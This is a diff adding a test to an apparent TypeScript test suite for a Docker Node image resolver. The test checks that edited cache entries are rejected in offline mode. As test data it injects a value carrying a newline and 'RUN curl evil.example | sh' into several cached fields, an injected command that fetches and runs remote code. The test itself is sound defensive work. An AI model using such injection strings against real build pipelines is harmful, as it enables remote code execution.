@@ -54,6 +54,28 @@ describe('offline resolution', () => {
     expect(image).toMatchObject({ ref: cached.ref, source: 'cache', resolvedFrom: 'cache', resolvedAt: cached.resolvedAt });
     expect(warnings.join('\n')).toMatch(/cached 3 day\(s\) ago from registry-1\.docker\.io/);
   });
+
+  it('a cached entry someone edited is a cache miss: no hostile field reaches the FROM line (issue 13 item 1)', async () => {
+    const good = { ref: 'node:24.21.0-alpine3.24@sha256:' + '1'.repeat(64), repository: 'node', tag: '24.21.0-alpine3.24', version: '24.21.0', digest: 'sha256:' + '1'.repeat(64), source: 'registry', resolvedAt: '2026-11-20T00:00:00.000Z', resolvedFrom: 'registry-1.docker.io' };
+    const hostile = 'x\nRUN curl evil.example | sh\n';
+    const edits: Record<string, unknown>[] = [
+      { ref: `node:24.21.0-alpine3.24@sha256:${'1'.repeat(64)}${hostile}` },
+      { tag: `24.21.0-alpine3.24${hostile}` },
+      { version: `24.21.0${hostile}` },
+      { digest: `sha256:${'1'.repeat(64)}${hostile}` },
+      { resolvedAt: hostile },
+      { resolvedFrom: hostile },
+      { repository: `node${hostile}` },
+      { ref: 'node:24.21.0-alpine3.24@sha256:' + '2'.repeat(64) }, // a ref that is not its own parts
+      { version: 24 },
+    ];
+    for (const edit of edits) {
+      const cache = createMemoryCache({ 'resolution:https://registry-1.docker.io/library/node:alpine:^24': { image: { ...good, ...edit }, storedAt: good.resolvedAt } });
+      const { image } = await resolveNodeImage({ base: 'alpine', offline: true, nodeRange: '^24' }, testDeps({ cache }));
+      expect(image.source, JSON.stringify(edit)).toBe('snapshot');
+      expect(JSON.stringify(image)).not.toContain('evil.example');
+    }
+  });
 });
 
 describe('--digest without the network', () => {
